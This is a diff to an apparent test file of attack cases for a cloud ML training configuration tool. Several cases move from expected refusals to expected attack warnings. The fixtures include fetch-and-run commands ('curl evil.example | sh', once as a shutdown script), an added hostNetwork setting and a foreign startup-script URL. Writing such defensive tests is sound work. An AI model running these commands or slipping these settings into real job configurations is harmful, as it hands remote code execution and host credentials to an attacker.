@@ -156,10 +156,10 @@ ATTACKS: Final = (
         "capacity changed from `on-demand` to `spot`: machines can be taken away while a run is under way",
         base=together(ONE_SIZE, spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n"))),
     ),
-    refused(
+    attack(
         "another-command",
         options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
-        "error[TPU067]: workerPoolSpecs[0].containerSpec.command in extra would replace the program",
+        "`containerSpec.command[0]` added (`bash`): another program runs in the job",
     ),
     refused(
         "steps-removed-by-extra",
@@ -182,10 +182,10 @@ ATTACKS: Final = (
         "error[TPU066]: tpu.nodeSpec[0].parent is decided by environments.dev.project",
         base=CLOUD_TPU,
     ),
-    refused(
+    attack(
         "account-of-the-node",
         options("gke", extra=pod(hostNetwork=True)),
-        "template.spec.hostNetwork in extra would run the program as the account of its node",
+        "`hostNetwork` added (`true`): the container uses its host's network, and with it the host's account",
         base=GKE,
     ),
     attack(
@@ -270,16 +270,16 @@ ATTACKS: Final = (
         "error[TPU066]: tpu.nodeSpec[0].node.metadata.startup-script is decided by trainer",
         base=CLOUD_TPU,
     ),
-    refused(
+    attack(
         "second-start-up-script",
         options("cloud-tpu", extra=node({"startup-script-url": "gs://theirs/x.sh"})),
-        "error[TPU067]: tpu.nodeSpec[0].node.metadata.startup-script-url in extra would run a second program",
+        "`gs://theirs/x.sh`",
         base=CLOUD_TPU,
     ),
-    refused(
+    attack(
         "script-at-the-end",
         options("cloud-tpu", extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
-        "would run a program while the host shuts down",
+        "`curl -s https://evil.example | sh`",
         base=together(CLOUD_TPU, ONE_SIZE),
     ),
     attack(
